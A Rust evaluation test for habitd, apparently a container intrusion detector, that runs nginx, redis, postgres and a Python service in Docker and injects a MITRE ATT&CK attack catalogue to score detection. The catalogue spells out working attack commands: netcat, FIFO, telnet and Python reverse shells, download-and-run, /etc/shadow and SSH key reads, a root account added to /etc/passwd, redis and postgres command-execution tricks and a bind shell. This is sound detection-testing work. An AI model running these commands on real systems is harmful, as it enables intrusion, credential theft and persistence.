//! Evaluation on real applications (issue 11, "The evaluation to build"): nginx (static site and
//! reverse proxy to a backend), redis, postgres (Debian's server binaries, as user postgres) and
//! a small standard-library Python service, built from this machine's packages
//! (tests/eval/images.sh), learn under a realistic client load with habitd's *default*
//! false-alarm rate (0.01); then, in detection,
//!
//! - their benign life goes on step by step (restart, scale 1→3→1, log rotation with `.1`…`.12`
//!   generations and gzip, config reload, health checks, a periodic job, a 3× burst of clients,
//!   another application starting and learning beside them), and every alert is counted per
//!   workload and per step;
//! - an attack catalogue (MITRE ATT&CK for containers, [`catalogue`]) is injected into each
//!   application where it makes sense, one technique at a time, and each is scored: detected by
//!   the static rules alone (any rule hit, also those fusion suppresses: the run writes them
//!   with `alerts_include_suppressed`), by the baseline alone (`habitd anomaly` alerts), by
//!   habitd fused (any alert not suppressed), with the named items.
//!
//! The report goes to `target/eval_apps.md` and `target/eval_apps.json` (alerts beside them),
//! and to stdout with `--nocapture`. The suite fails if a benign step raises an alert or a
//! technique goes undetected by habitd fused (`HABITD_EVAL_ASSERT=0` only reports).
//!
//! `HABITD_EVAL=full` runs all four applications and the whole catalogue (about 35 minutes
//! here); the default, `smoke`, runs redis with a handful of techniques (the CI budget).
//! `scripts/eval-apps.sh [smoke|full]` builds and runs it. The test is `#[ignore]`d in plain
//! `cargo test` (minutes long, and it needs the applications' packages): the README's test
//! command (`scripts/test.sh`) runs its smoke mode through `scripts/eval-apps.sh smoke`.
//!
//! Needs root, BTF, Docker and the Debian packages nginx, redis-server, redis-tools,
//! postgresql-15 (its client psql too), python3.11 and busybox-static; fails with what to
//! install.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime};

use common::{Daemon, actions_binary, parse_rfc3339, require_docker, tail};
use serde_json::{Value, json};

const ANOMALY: &str = "habitd anomaly";

// ---------------------------------------------------------------------------------------------
// Modes
// ---------------------------------------------------------------------------------------------

/// What one run covers and how long it learns.
struct Mode {
    name: &'static str,
    apps: Vec<App>,
    /// Technique ids to run (None = the whole catalogue).
    techniques: Option<Vec<String>>,
    /// Benign steps to run (None = all).
    steps: Option<Vec<String>>,
    learn_min: u64,
    learn_stable: u64,
    learn_max: u64,
    /// Normal life in detection before the steps (seconds).
    steady: u64,
}

fn mode() -> Mode {
    let mut m = base_mode();
    // HABITD_EVAL_APPS=nginx,postgres narrows the applications (nginx brings its backend).
    if let Ok(list) = std::env::var("HABITD_EVAL_APPS") {
        let names: Vec<&str> = list.split(',').map(str::trim).collect();
        m.apps.retain(|a| {
            names.contains(&a.name()) || (*a == App::Pyapp && names.contains(&"nginx"))
        });
    }
    // HABITD_EVAL_TECHNIQUES=nsenter,timestomp and HABITD_EVAL_STEPS=restart,"config reload"
    // narrow the catalogue and the benign steps (while iterating on one finding).
    let list = |var: &str| {
        std::env::var(var).ok().map(|l| {
            l.split(',')
                .map(|s| s.trim().to_string())
                .filter(|s| !s.is_empty())
                .collect::<Vec<_>>()
        })
    };
    if let Some(t) = list("HABITD_EVAL_TECHNIQUES") {
        m.techniques = Some(t);
    }
    if let Some(s) = list("HABITD_EVAL_STEPS") {
        m.steps = Some(s);
    }
    m
}

fn base_mode() -> Mode {
    match std::env::var("HABITD_EVAL").as_deref() {
        Ok("full") => Mode {
            name: "full",
            apps: vec![App::Pyapp, App::Nginx, App::Redis, App::Postgres],
            techniques: None,
            steps: None,
            // As the smoke: long enough that the decisive dimensions are quiet for 9+ learning
            // intervals after the last maintenance round (a 60-s learning left a new program,
            // `nsenter`, `touch`, at 0.98 against the 0.99 threshold).
            learn_min: 90,
            learn_stable: 20,
            learn_max: 180,
            steady: 20,
        },
        _ => Mode {
            name: "smoke",
            apps: vec![App::Redis],
            techniques: Some(
                [
                    "shell",
                    "revshell-nc",
                    "download-run",
                    "read-shadow",
                    "bind-shell",
                    "redis-replicaof",
                    "memfd-exec",
                    "outbound-new-port",
                ]
                .map(String::from)
                .to_vec(),
            ),
            steps: Some(
                ["restart", "log rotation", "periodic job", "burst 3x"]
                    .map(String::from)
                    .to_vec(),
            ),
            // Long enough that the decisive dimensions are quiet for 9+ learning intervals
            // after the last maintenance round (their prior then lets a new program alert on
            // its own with the default target).
            learn_min: 90,
            learn_stable: 20,
            learn_max: 180,
            steady: 15,
        },
    }
}

/// The daemon's settings: second-scale learning windows (the default interval of 1 m would need
/// hours), every other setting at its default, `false_alarm_rate` above all (0.01).
///
/// The counters interval (the rate model's) is 5 s, half its default of 10 s: enough intervals
/// in a 90-s learning for the model (at least 10). It was 2 s, and that was the evaluation's
/// own artefact: five times as many scored intervals as the default (the rate model's target
/// is 0.001 false alarms per interval and workload, so a 10-minute benign life of four
/// workloads had about 1.2 expected), each short enough that one health check, one rotation
/// or one checkpoint was its whole content ("exec rate 2.73/s, never above 0 in baseline":
/// a health check every 5 s lands in one 2-s interval of two or three).
fn config(m: &Mode) -> String {
    format!(
        "alerts_include_suppressed = true\n\
         [learning]\nmin = \"{}s\"\nstable = \"{}s\"\nmax = \"{}s\"\ninterval = \"{LEARNING_INTERVAL_SECS}s\"\n\
         [probes]\ncounters_interval = \"{COUNTERS_INTERVAL_SECS}s\"\n",
        m.learn_min, m.learn_stable, m.learn_max
    )
}

/// `probes.counters_interval` of the run (seconds; see [`config`]).
const COUNTERS_INTERVAL_SECS: u64 = 5;

/// `learning.interval` of the run (seconds).
const LEARNING_INTERVAL_SECS: u64 = 5;
/// Rounds of maintenance while learning (see the learning phase).
const MAINTENANCE_ROUNDS: u32 = 3;
/// Seconds between two log rotations of the rotation step: more than a counters interval, so
/// that each rotation is alone in its interval as in learning (logrotate runs daily; twelve
/// rotations in one interval would be a burst no day has).
const ROTATION_SPACING: Duration = Duration::from_millis(COUNTERS_INTERVAL_SECS * 1000 + 500);

/// Time an alert may take after a step or an attack (rate alerts close 5 s intervals, sequence
/// findings come every 2 s; the machines here are heavily shared).
const SETTLE: Duration = Duration::from_secs(8);
/// The same after each attack technique.
const ATTACK_SETTLE: Duration = Duration::from_secs(6);

// ---------------------------------------------------------------------------------------------
// The applications
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum App {
    Nginx,
    Redis,
    Postgres,
    Pyapp,
}

impl App {
    fn name(self) -> &'static str {
        match self {
            App::Nginx => "nginx",
            App::Redis => "redis",
            App::Postgres => "postgres",
            App::Pyapp => "pyapp",
        }
    }
    fn port(self) -> u16 {
        match self {
            App::Nginx => 80,
            App::Redis => 6379,
            App::Postgres => 5432,
            App::Pyapp => 8000,
        }
    }
    /// The network alias other containers reach it by.
    fn alias(self) -> &'static str {
        match self {
            App::Pyapp => "backend",
            other => other.name(),
        }
    }
    /// The unprivileged user its server runs as (the attacker's identity when it is not root).
    fn user(self) -> &'static str {
        match self {
            App::Nginx => "www-data",
            App::Redis => "redis",
            App::Postgres => "postgres",
            App::Pyapp => "app",
        }
    }
    fn log_dir(self) -> &'static str {
        match self {
            App::Nginx => "/var/log/nginx",
            App::Redis => "/var/log/redis",
            App::Postgres => "/var/log/postgresql",
            App::Pyapp => "/var/log/app",
        }
    }
    /// A Docker HEALTHCHECK-style command run inside the container.
    fn health_check(self) -> &'static [&'static str] {
        match self {
            App::Nginx => &["wget", "-q", "-O", "/dev/null", "http://127.0.0.1/healthz"],
            App::Redis => &["redis-cli", "ping"],
            App::Postgres => &["pg_isready", "-q"],
            App::Pyapp => &[
                "wget",
                "-q",
                "-O",
                "/dev/null",
                "http://127.0.0.1:8000/healthz",
            ],
        }
    }
    /// Log rotation as logrotate does it (run as root in the container): older generations
    /// shift up to `.12`, `.2` and later are gzipped (delaycompress), then the server reopens
    /// (nginx: USR1; postgres: pg_ctl logrotate; the Python service's WatchedFileHandler
    /// notices the rename; redis cannot reopen: copytruncate).
    fn rotate_script(self) -> String {
        let (files, reopen, copytruncate) = match self {
            App::Nginx => (
                "access.log error.log",
                "kill -USR1 $(cat /run/nginx.pid)",
                false,
            ),
            App::Redis => ("redis-server.log", "true", true),
            App::Postgres => (
                "postgresql.log",
                "su -s /bin/sh postgres -c 'pg_ctl logrotate' >/dev/null 2>&1 || \
                 kill -USR1 $(head -1 /var/lib/postgresql/data/postmaster.pid)",
                false,
            ),
            App::Pyapp => ("access.log", "true", false),
        };
        let keep = if copytruncate {
            "cp $f $f.1 && : > $f"
        } else {
            "mv $f $f.1"
        };
        format!(
            "cd {dir} && for f in {files}; do rm -f $f.12.gz; \
             for i in 11 10 9 8 7 6 5 4 3 2; do [ -e $f.$i.gz ] && mv $f.$i.gz $f.$((i+1)).gz; done; \
             [ -e $f.1 ] && gzip -c $f.1 > $f.2.gz && rm -f $f.1; \
             [ -e $f ] && {keep}; done; {reopen}; true",
            dir = self.log_dir()
        )
    }
    /// The configuration reload of its operators.
    fn reload(self, c: &AppContainer) -> Option<Output> {
        Some(match self {
            App::Nginx => c.exec(&[], &["nginx", "-s", "reload"]),
            App::Postgres => c.exec(&[], &["pg_ctl", "reload"]),
            App::Pyapp => docker(&["kill", "-s", "HUP", &c.id]),
            // redis has no reload: its operators change settings at run time.
            App::Redis => {
                redis_command(
                    &c.ip(),
                    &["CONFIG", "SET", "maxmemory-policy", "allkeys-lru"],
                );
                return None;
            }
        })
    }
    /// The periodic job (backup, save, compaction).
    fn job(self, c: &AppContainer) -> Option<Output> {
        match self {
            App::Nginx => None,
            App::Redis => {
                redis_command(&c.ip(), &["BGSAVE"]);
                None
            }
            App::Postgres => Some(c.exec(
                &[],
                &[
                    "pg_dump",
                    "-U",
                    "postgres",
                    "-f",
                    "/var/backups/pg/app.sql",
                    "postgres",
                ],
            )),
            App::Pyapp => Some(c.exec(&[], &["python3", "/srv/app/app.py", "--compact"])),
        }
    }
    fn has_job(self) -> bool {
        self != App::Nginx
    }
}

/// `docker ARGS`.
fn docker(args: &[&str]) -> Output {
    Command::new("docker").args(args).output().unwrap()
}

/// A Docker network for the run (name resolution between the applications), removed on drop.
struct Network {
    name: String,
}

impl Network {
    fn create() -> Network {
        let name = format!("habitd-eval-{}", std::process::id());
        let out = docker(&["network", "create", &name]);
        assert!(
            out.status.success(),
            "docker network create: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        Network { name }
    }
    /// The address of the host on this network (the attacker's listeners are there).
    fn gateway(&self) -> String {
        let out = docker(&[
            "network",
            "inspect",
            "-f",
            "{{(index .IPAM.Config 0).Gateway}}",
            &self.name,
        ]);
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }
}

impl Drop for Network {
    fn drop(&mut self) {
        let _ = Command::new("docker")
            .args(["network", "rm", &self.name])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

/// An application container (not `--rm`: it is restarted), removed on drop.
struct AppContainer {
    id: String,
}

impl AppContainer {
    /// Runs `image` on `net` under `alias`, without Docker's seccomp filter (as Kubernetes runs
    /// pods by default: the kernel then sees the escape attempts, which still fail for want of
    /// capabilities).
    fn run(net: &Network, image: &str, alias: &str, name: &str) -> AppContainer {
        let out = docker(&[
            "run",
            "-d",
            "--name",
            name,
            "--network",
            &net.name,
            "--network-alias",
            alias,
            "--security-opt",
            "seccomp=unconfined",
            image,
        ]);
        assert!(
            out.status.success(),
            "docker run {image}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        AppContainer {
            id: String::from_utf8_lossy(&out.stdout).trim().to_string(),
        }
    }
    fn ip(&self) -> String {
        let out = docker(&[
            "inspect",
            "-f",
            "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
            &self.id,
        ]);
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }
    fn short(&self) -> &str {
        &self.id[..12]
    }
    /// The names in directory `dir` of the container, sorted, read from the host through
    /// `/proc/PID/root` (no process runs in the container).
    fn list_dir(&self, dir: &str) -> Vec<String> {
        let pid =
            String::from_utf8_lossy(&docker(&["inspect", "-f", "{{.State.Pid}}", &self.id]).stdout)
                .trim()
                .to_string();
        let mut names: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/root{dir}"))
            .map(|d| {
                d.filter_map(Result::ok)
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default();
        names.sort();
        names
    }
    fn exec(&self, opts: &[&str], args: &[&str]) -> Output {
        let mut a = vec!["exec"];
        a.extend_from_slice(opts);
        a.push(&self.id);
        a.extend_from_slice(args);
        docker(&a)
    }
}

impl Drop for AppContainer {
    fn drop(&mut self) {
        let _ = Command::new("docker")
            .args(["rm", "-f", &self.id])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

/// Builds (or reuses) the image of `app` with tests/eval/images.sh.
fn app_image(app: &str) -> String {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/eval/images.sh");
    let out = Command::new("bash")
        .arg(&script)
        .arg(app)
        .arg(actions_binary())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "building the {app} image failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .last()
        .unwrap()
        .to_string()
}

/// Waits until `app` in `c` answers on its port.
fn wait_serving(app: App, c: &AppContainer) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while Instant::now() < deadline {
        let ip = c.ip();
        if !ip.is_empty()
            && TcpStream::connect_timeout(
                &format!("{ip}:{}", app.port()).parse().unwrap(),
                Duration::from_secs(1),
            )
            .is_ok()
        {
            if app == App::Postgres {
                // Accepting TCP is not yet accepting queries.
                std::thread::sleep(Duration::from_secs(2));
            }
            return;
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    panic!(
        "{} did not serve on port {} within 60 s; logs:\n{}",
        app.name(),
        app.port(),
        String::from_utf8_lossy(&docker(&["logs", "--tail", "30", &c.id]).stderr)
    );
}

// ---------------------------------------------------------------------------------------------
// Clients (from the host), health checks
// ---------------------------------------------------------------------------------------------

/// A background loop, stopped on drop.
struct Background {
    stop: Arc<AtomicBool>,
    handle: Option<std::thread::JoinHandle<()>>,
}

impl Background {
    fn start(mut step: impl FnMut(&AtomicBool) + Send + 'static) -> Background {
        let stop = Arc::new(AtomicBool::new(false));
        let flag = stop.clone();
        let handle = std::thread::spawn(move || {
            while !flag.load(Ordering::Relaxed) {
                step(&flag);
            }
        });
        Background {
            stop,
            handle: Some(handle),
        }
    }
}

impl Drop for Background {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

fn http(ip: &str, port: u16, method: &str, path: &str, body: &str) -> Option<u16> {
    let addr = format!("{ip}:{port}").parse().ok()?;
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2)).ok()?;
    s.set_read_timeout(Some(Duration::from_secs(3))).ok()?;
    write!(
        s,
        "{method} {path} HTTP/1.0\r\nHost: eval\r\nContent-Type: application/json\r\n\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .ok()?;
    let mut resp = String::new();
    let _ = s.read_to_string(&mut resp);
    resp.split_whitespace().nth(1)?.parse().ok()
}

/// One RESP command on a connection; the reply's first line.
fn resp(s: &mut TcpStream, args: &[&str]) -> Option<String> {
    let mut req = format!("*{}\r\n", args.len());
    for a in args {
        req.push_str(&format!("${}\r\n{a}\r\n", a.len()));
    }
    s.write_all(req.as_bytes()).ok()?;
    let mut buf = [0u8; 4096];
    let n = s.read(&mut buf).ok()?;
    Some(
        String::from_utf8_lossy(&buf[..n])
            .lines()
            .next()?
            .to_string(),
    )
}

fn redis_command(ip: &str, args: &[&str]) -> Option<String> {
    let mut s =
        TcpStream::connect_timeout(&format!("{ip}:6379").parse().ok()?, Duration::from_secs(2))
            .ok()?;
    s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    resp(&mut s, args)
}

fn psql(ip: &str, sql: &str) -> Output {
    Command::new("psql")
        .args([
            "-h", ip, "-U", "postgres", "-d", "postgres", "-q", "-X", "-c", sql,
        ])
        .env("PGCONNECT_TIMEOUT", "5")
        .output()
        .expect("psql is needed (apt-get install postgresql-client-15)")
}

/// The client load of one application at `rate` times its learned rate: nginx gets pages,
/// proxied API reads and writes (8/s); the Python service reads and writes (4/s); redis gets
/// SET/GET/INCR/LPUSH on a connection reopened every 200 commands (25/s); postgres gets an
/// INSERT and a SELECT per new psql session (2/s).
fn client_load(app: App, ip: Arc<Mutex<String>>, rate: Arc<AtomicU32>) -> Background {
    let mut n: u64 = 0;
    let mut conn: Option<TcpStream> = None;
    Background::start(move |_| {
        n += 1;
        let ip_now = ip.lock().unwrap().clone();
        let base = match app {
            App::Nginx => {
                let path = match n % 4 {
                    0 => "/api/items".to_string(),
                    1 => format!("/page{}.html", n % 20 + 1),
                    2 => "/".to_string(),
                    _ => "/big.txt".to_string(),
                };
                if n % 10 == 5 {
                    http(&ip_now, 80, "POST", "/api/items", &format!("{{\"n\":{n}}}"));
                } else {
                    http(&ip_now, 80, "GET", &path, "");
                }
                Duration::from_millis(125)
            }
            App::Pyapp => {
                if n.is_multiple_of(3) {
                    http(&ip_now, 8000, "POST", "/items", &format!("{{\"v\":{n}}}"));
                } else {
                    http(&ip_now, 8000, "GET", "/items", "");
                }
                Duration::from_millis(250)
            }
            App::Redis => {
                if conn.is_none() || n.is_multiple_of(200) {
                    conn = TcpStream::connect_timeout(
                        &format!("{ip_now}:6379")
                            .parse()
                            .unwrap_or_else(|_| "127.0.0.1:1".parse().unwrap()),
                        Duration::from_secs(2),
                    )
                    .ok();
                    if let Some(c) = &conn {
                        let _ = c.set_read_timeout(Some(Duration::from_secs(3)));
                    }
                }
                let key = format!("k{}", n % 500);
                let ok = if let Some(c) = conn.as_mut() {
                    let val = format!("v{n}");
                    let r = match n % 4 {
                        0 => resp(c, &["SET", &key, &val]),
                        1 => resp(c, &["GET", &key]),
                        2 => resp(c, &["INCR", "hits"]),
                        _ => resp(c, &["LPUSH", "recent", &key])
                            .and_then(|_| resp(c, &["LTRIM", "recent", "0", "99"])),
                    };
                    r.is_some()
                } else {
                    false
                };
                if !ok {
                    conn = None;
                }
                Duration::from_millis(40)
            }
            App::Postgres => {
                let _ = psql(
                    &ip_now,
                    &format!(
                        "INSERT INTO events(v) VALUES ('e{n}'); \
                         SELECT count(*), max(id) FROM events WHERE v LIKE 'e{}%';",
                        n % 10
                    ),
                );
                Duration::from_millis(500)
            }
        };
        let r = rate.load(Ordering::Relaxed).max(1);
        std::thread::sleep(base / r);
    })
}

/// Health checks (a command in the container, like Docker's HEALTHCHECK) and a TCP liveness
/// probe from the host, every 5 s for every container in `targets`.
fn health_checks(targets: Arc<Mutex<Vec<(App, String)>>>) -> Background {
    Background::start(move |stop| {
        let list = targets.lock().unwrap().clone();
        for (app, id) in list {
            let mut args = vec!["exec", id.as_str()];
            args.extend_from_slice(app.health_check());
            let _ = docker(&args);
            let ip = String::from_utf8_lossy(
                &docker(&[
                    "inspect",
                    "-f",
                    "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
                    &id,
                ])
                .stdout,
            )
            .trim()
            .to_string();
            if let Ok(addr) = format!("{ip}:{}", app.port()).parse() {
                let _ = TcpStream::connect_timeout(&addr, Duration::from_secs(1));
            }
        }
        for _ in 0..50 {
            if stop.load(Ordering::Relaxed) {
                return;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
    })
}

// ---------------------------------------------------------------------------------------------
// The attacker's side on the host: a listener that catches reverse shells, exfiltrated data and
// replication (it answers a shell with `id; exit`), and a file server for the tool download.
// ---------------------------------------------------------------------------------------------

fn catcher() -> (u16, Background) {
    let l = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = l.local_addr().unwrap().port();
    l.set_nonblocking(true).unwrap();
    let bg = Background::start(move |_| match l.accept() {
        Ok((mut s, _)) => {
            std::thread::spawn(move || {
                let _ = s.set_nonblocking(false);
                let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
                let _ = s.write_all(b"id\nexit\n");
                let mut sink = Vec::new();
                let _ = s.read_to_end(&mut sink);
            });
        }
        Err(_) => std::thread::sleep(Duration::from_millis(50)),
    });
    (port, bg)
}

fn file_server(payload: Vec<u8>) -> (u16, Background) {
    let l = TcpListener::bind("0.0.0.0:0").unwrap();
    let port = l.local_addr().unwrap().port();
    l.set_nonblocking(true).unwrap();
    let bg = Background::start(move |_| match l.accept() {
        Ok((mut s, _)) => {
            let _ = s.set_nonblocking(false);
            let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
            let mut buf = [0u8; 2048];
            let _ = s.read(&mut buf);
            let _ = write!(
                s,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n",
                payload.len()
            );
            let _ = s.write_all(&payload);
        }
        Err(_) => std::thread::sleep(Duration::from_millis(50)),
    });
    (port, bg)
}

// ---------------------------------------------------------------------------------------------
// The attack catalogue
// ---------------------------------------------------------------------------------------------

/// What an attack step needs to know about the run.
struct Ctx<'a> {
    app: App,
    c: &'a AppContainer,
    gateway: String,
    catcher: u16,
    files: u16,
    /// Addresses of the other applications (lateral movement).
    peers: BTreeMap<App, String>,
}

enum Step {
    /// `docker exec [-u USER] [-d] C ARGS`.
    Exec {
        user: Option<String>,
        detach: bool,
        args: Vec<String>,
    },
    /// A command to redis from the outside (the attacker reached the port).
    Redis(Vec<String>),
    /// SQL as the postgres superuser from the outside (stolen credentials).
    Sql(String),
    /// The attacker connects to the container (a bind shell) and sends a command.
    Connect(u16, &'static str),
    Sleep(Duration),
}

fn sh(cmd: impl Into<String>) -> Step {
    Step::Exec {
        user: None,
        detach: false,
        args: vec!["sh".into(), "-c".into(), cmd.into()],
    }
}
fn root_sh(cmd: impl Into<String>) -> Step {
    Step::Exec {
        user: Some("0".into()),
        detach: false,
        args: vec!["sh".into(), "-c".into(), cmd.into()],
    }
}
fn run(args: &[&str]) -> Step {
    Step::Exec {
        user: None,
        detach: false,
        args: args.iter().map(|s| s.to_string()).collect(),
    }
}
fn root_run(args: &[&str]) -> Step {
    Step::Exec {
        user: Some("0".into()),
        detach: false,
        args: args.iter().map(|s| s.to_string()).collect(),
    }
}

struct Technique {
    id: &'static str,
    name: &'static str,
    mitre: &'static str,
    /// The applications it makes sense in.
    applies: fn(App, &Ctx) -> bool,
    steps: fn(&Ctx) -> Vec<Step>,
}

fn all(_: App, _: &Ctx) -> bool {
    true
}

fn catalogue() -> Vec<Technique> {
    vec![
        Technique {
            id: "shell",
            name: "interactive shell (sh -c 'id; uname -a')",
            mitre: "T1059.004",
            applies: all,
            steps: |_| vec![sh("id; uname -a; cat /proc/version")],
        },
        Technique {
            id: "interpreter",
            name: "interpreter one-liner (python3 -c / awk system())",
            mitre: "T1059.006",
            applies: all,
            steps: |x| {
                if x.app == App::Pyapp {
                    vec![run(&["python3", "-c", "import os; os.system('id')"])]
                } else {
                    vec![run(&["awk", "BEGIN { system(\"id\") }"])]
                }
            },
        },
        Technique {
            id: "revshell-nc",
            name: "reverse shell: nc -e /bin/sh",
            mitre: "T1059.004, T1071",
            applies: all,
            steps: |x| {
                vec![run(&[
                    "nc",
                    "-w",
                    "3",
                    &x.gateway,
                    &x.catcher.to_string(),
                    "-e",
                    "/bin/sh",
                ])]
            },
        },
        Technique {
            id: "revshell-fifo",
            name: "reverse shell: mkfifo | sh -i | nc",
            mitre: "T1059.004, T1071",
            applies: all,
            steps: |x| {
                vec![sh(format!(
                    "rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | sh -i 2>&1 | nc -w 3 {} {} > /tmp/.f; rm -f /tmp/.f",
                    x.gateway, x.catcher
                ))]
            },
        },
        Technique {
            id: "revshell-telnet",
            name: "reverse shell: telnet | sh",
            mitre: "T1059.004, T1071",
            applies: all,
            steps: |x| {
                vec![sh(format!(
                    "timeout 4 telnet {} {} | sh >/dev/null 2>&1",
                    x.gateway, x.catcher
                ))]
            },
        },
        Technique {
            id: "revshell-python",
            name: "reverse shell: python socket + dup2 + sh -i",
            mitre: "T1059.006, T1071",
            applies: |a, _| a == App::Pyapp,
            steps: |x| {
                vec![run(&[
                    "python3",
                    "-c",
                    &format!(
                        "import socket,subprocess,os;s=socket.socket();s.settimeout(4);\
                         s.connect(('{}',{}));[os.dup2(s.fileno(),f) for f in (0,1,2)];\
                         subprocess.call(['/bin/sh','-i'])",
                        x.gateway, x.catcher
                    ),
                ])]
            },
        },
        Technique {
            id: "pg-copy-program",
            name: "command execution by the server (COPY ... TO PROGRAM)",
            mitre: "T1059.004, T1190",
            applies: |a, _| a == App::Postgres,
            steps: |_| {
                vec![Step::Sql(
                    "COPY (SELECT 1) TO PROGRAM 'id > /tmp/.pgx; uname -a >> /tmp/.pgx'".into(),
                )]
            },
        },
        Technique {
            id: "download-run",
            name: "download a tool to /tmp and run it (wget, chmod, exec)",
            mitre: "T1105, T1204",
            applies: all,
            steps: |x| {
                vec![sh(format!(
                    "wget -q -O /tmp/.kit http://{}:{}/kit && chmod +x /tmp/.kit && /tmp/.kit sleep 0",
                    x.gateway, x.files
                ))]
            },
        },
        Technique {
            id: "write-binary",
            name: "trojan written below /usr/bin",
            mitre: "T1554, T1036",
            applies: all,
            steps: |_| vec![root_run(&["cp", "/bin/busybox", "/usr/bin/.sshd"])],
        },
        Technique {
            id: "write-etc",
            name: "account added to /etc/passwd",
            mitre: "T1136.001, T1098",
            applies: all,
            steps: |_| vec![root_sh("echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd")],
        },
        Technique {
            id: "redis-config-dir",
            name: "server writes below /etc (CONFIG SET dir /etc; SAVE)",
            mitre: "T1053.003, T1505",
            applies: |a, _| a == App::Redis,
            steps: |_| {
                let c = |v: &[&str]| Step::Redis(v.iter().map(|s| s.to_string()).collect());
                vec![
                    c(&["CONFIG", "SET", "dir", "/etc"]),
                    c(&["CONFIG", "SET", "dbfilename", "cron.evil"]),
                    c(&["SAVE"]),
                    c(&["CONFIG", "SET", "dir", "/var/lib/redis"]),
                    c(&["CONFIG", "SET", "dbfilename", "dump.rdb"]),
                ]
            },
        },
        Technique {
            id: "redis-replicaof",
            name: "server replicates from a rogue master (REPLICAOF)",
            mitre: "T1071, T1105",
            applies: |a, _| a == App::Redis,
            steps: |x| {
                vec![
                    Step::Redis(vec![
                        "REPLICAOF".into(),
                        x.gateway.clone(),
                        x.catcher.to_string(),
                    ]),
                    Step::Sleep(Duration::from_secs(3)),
                    Step::Redis(vec!["REPLICAOF".into(), "NO".into(), "ONE".into()]),
                ]
            },
        },
        Technique {
            id: "read-shadow",
            name: "read /etc/shadow",
            mitre: "T1003.008",
            applies: all,
            steps: |_| vec![root_run(&["cat", "/etc/shadow"])],
        },
        Technique {
            id: "ssh-key",
            name: "read a private key (/root/.ssh/id_rsa)",
            mitre: "T1552.004",
            applies: all,
            steps: |_| vec![root_run(&["cat", "/root/.ssh/id_rsa"])],
        },
        Technique {
            id: "discovery",
            name: "discovery (ps, netstat, ifconfig, id)",
            mitre: "T1057, T1049, T1016, T1033",
            applies: all,
            steps: |_| {
                vec![
                    run(&["ps"]),
                    run(&["netstat", "-tan"]),
                    run(&["ifconfig"]),
                    run(&["id"]),
                ]
            },
        },
        Technique {
            id: "bind-shell",
            name: "bind shell (nc -l -p 39300 -e /bin/sh), attacker connects",
            mitre: "T1059.004, T1571",
            applies: all,
            steps: |_| {
                vec![
                    Step::Exec {
                        user: None,
                        detach: true,
                        args: ["nc", "-l", "-p", "39300", "-e", "/bin/sh"]
                            .iter()
                            .map(|s| s.to_string())
                            .collect(),
                    },
                    Step::Sleep(Duration::from_secs(1)),
                    Step::Connect(39300, "id; exit\n"),
                ]
            },
        },
        Technique {
            id: "outbound-new-port",
            name: "outbound connection to a new destination and port (198.51.100.7:8443)",
            mitre: "T1071, T1571",
            applies: all,
            steps: |_| vec![run(&["eval-actions", "connect-nb", "198.51.100.7", "8443"])],
        },
        Technique {
            id: "lateral-db",
            name: "lateral movement: web tier connects to the database port",
            mitre: "T1021, T1210",
            applies: |a, x| {
                (a == App::Nginx || a == App::Pyapp) && x.peers.contains_key(&App::Postgres)
            },
            steps: |x| {
                let pg = x.peers[&App::Postgres].clone();
                vec![sh(format!("echo | nc -w 2 {pg} 5432"))]
            },
        },
        Technique {
            id: "miner",
            name: "crypto miner: xmrig to a pool port 3333, CPU burn",
            mitre: "T1496",
            applies: all,
            steps: |_| {
                vec![
                    root_run(&["cp", "/usr/local/sbin/eval-actions", "/usr/local/bin/xmrig"]),
                    run(&["xmrig", "connect-nb", "203.0.113.10", "3333"]),
                    run(&["timeout", "2", "sh", "-c", "while :; do :; done"]),
                ]
            },
        },
        Technique {
            id: "setuid-bit",
            name: "setuid bit on a copied shell (/tmp/.rootsh)",
            mitre: "T1548.001",
            applies: all,
            steps: |_| {
                vec![
                    root_run(&["cp", "/bin/busybox", "/tmp/.rootsh"]),
                    root_run(&["chmod", "4755", "/tmp/.rootsh"]),
                ]
            },
        },
        Technique {
            id: "setuid-call",
            name: "setuid(0) from the service user",
            mitre: "T1548",
            applies: all,
            steps: |x| {
                vec![Step::Exec {
                    user: Some(x.app.user().into()),
                    detach: false,
                    args: vec!["eval-actions".into(), "setuid".into()],
                }]
            },
        },
        Technique {
            id: "capabilities",
            name: "raise capabilities (setpriv --inh-caps/--ambient-caps +sys_admin)",
            mitre: "T1548",
            applies: all,
            steps: |_| {
                vec![root_run(&[
                    "setpriv",
                    "--inh-caps",
                    "+sys_admin",
                    "--ambient-caps",
                    "+sys_admin",
                    "id",
                ])]
            },
        },
        Technique {
